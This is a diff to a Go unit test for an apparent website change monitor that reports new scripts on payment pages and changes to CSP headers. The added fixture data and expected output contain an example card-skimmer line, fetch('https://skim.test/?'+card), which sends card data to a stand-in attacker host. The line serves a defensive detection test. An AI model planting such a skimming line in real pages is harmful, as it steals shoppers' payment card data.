@@ -69,7 +69,7 @@ func TestChangesWriteText(t *testing.T) {
 		Site: "https://s.test/", Old: "2026-11-30T03:00:00Z", New: "2026-12-07T03:00:00Z",
 		ScriptsAdded: []Script{{Kind: "inline", SHA256: "0123456789abcdef0123"}, {URL: "https://cdn.test/a.js", PaymentPages: []string{"p"}},
 			{Kind: "inline", SHA256: "fedcba9876543210fedc", PageCount: 3, Pages: []string{"https://s.test/", "https://s.test/a", "https://s.test/pay"},
-				PaymentPages: []string{"https://s.test/pay"}}},
+				PaymentPages: []string{"https://s.test/pay"}, Line: 12, Snippet: "fetch('https://skim.test/?'+card)"}},
 		// one CSP change on two pages is one change; another on a third page is another
 		CSPChanged: []HeaderChange{
 			{Page: "https://s.test/a", Old: []string{"script-src 'self'"}, New: []string{}},
@@ -94,7 +94,7 @@ func TestChangesWriteText(t *testing.T) {
 		"! page https://s.test/pay no longer loads: HTTP 500\n" +
 		"+ script inline sha256:0123456789abcdef0123\n" +
 		"+ script https://cdn.test/a.js (on 1 payment page)\n" +
-		"+ script inline sha256:fedcba9876543210fedc on payment page https://s.test/pay and 2 other pages\n" +
+		"+ script inline sha256:fedcba9876543210fedc on payment page https://s.test/pay and 2 other pages, line 12 of https://s.test/: \"fetch('https://skim.test/?'+card)\"\n" +
 		"- script https://cdn.test/c.js (on 2 payment pages)\n" +
 		"~ script https://cdn.test/b.js: sha256 aaaaaaaaaaaaaaaa -> bbb\n" +
 		"~ csp on 2 pages (https://s.test/a, https://s.test/b): \"script-src 'self'\" -> \"\"\n" +
